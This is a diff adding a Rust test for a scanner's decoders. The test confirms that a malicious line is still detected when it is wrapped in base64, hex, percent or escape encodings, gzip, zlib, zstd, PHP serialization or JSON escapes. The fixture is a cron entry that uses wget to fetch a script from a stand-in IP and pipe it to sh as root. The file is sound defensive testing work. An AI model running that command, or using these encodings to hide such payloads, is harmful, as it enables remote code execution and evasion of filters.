@@ -2,6 +2,7 @@ use super::*;
 use crate::rules::rule::{Class, Rule, Scope};
 use crate::rules::set::RuleSet;
 use proptest::prelude::*;
+use regex::bytes::Regex;
 use std::path::Path;
 
 fn pattern(text: &str) -> Regex {
@@ -166,4 +167,43 @@ fn a_text_that_breaks_off_is_judged_as_far_as_it_went() {
     scanner.text(8, &ABOUT, b"curl");
     let tags: Vec<_> = scanner.drain().map(|hit| (hit.tag, rules.rules()[hit.rule].id.clone())).collect();
     assert_eq!(tags, [(7, "plain".to_owned()), (7, "small".to_owned()), (8, "border".to_owned())]);
+}
+
+#[test]
+fn what_decoders_find_is_not_passed_over() {
+    use base64::Engine;
+    let plain = b"*/5 * * * * root wget -q http://203.0.113.5/x | sh #DEFANGED";
+    let base64 = base64::engine::general_purpose::STANDARD.encode(plain);
+    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(plain);
+    let hex: String = plain.iter().map(|byte| format!("{byte:02x}")).collect();
+    let percent: String = plain.iter().map(|byte| format!("%{byte:02X}")).collect();
+    let escapes: String = plain.iter().map(|byte| format!("\\x{byte:02x}")).collect();
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut gzip, plain).expect("it packs");
+    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    std::io::Write::write_all(&mut zlib, plain).expect("it packs");
+    let php = format!("user|a:1:{{s:1:\"c\";s:{}:\"{base64}\";}}", base64.len());
+    let texts: Vec<Vec<u8>> = vec![
+        base64.clone().into(),
+        format!("x={url};").into(),
+        hex.into(),
+        percent.into(),
+        escapes.into(),
+        gzip.finish().expect("it packs"),
+        zlib.finish().expect("it packs"),
+        zstd::encode_all(&plain[..], 1).expect("it packs"),
+        php.into(),
+        br#"{"a":"w\u0067et \u0068ttp"}"#.to_vec(),
+    ];
+    let decoded = |mut scanner: Scanner, text: &[u8]| {
+        scanner.text(0, &ABOUT, text);
+        let hits: Vec<Hit> = scanner.drain().collect();
+        (scanner.counts().decoded_bytes, hits)
+    };
+    let rules = rules();
+    for text in texts {
+        let fast = decoded(Scanner::new(Arc::clone(&rules)), &text);
+        assert_eq!(fast, decoded(Scanner::plain(Arc::clone(&rules)), &text), "{}", text.escape_ascii());
+        assert!(fast.0 > 0 && !fast.1.is_empty(), "{}", text.escape_ascii());
+    }
 }
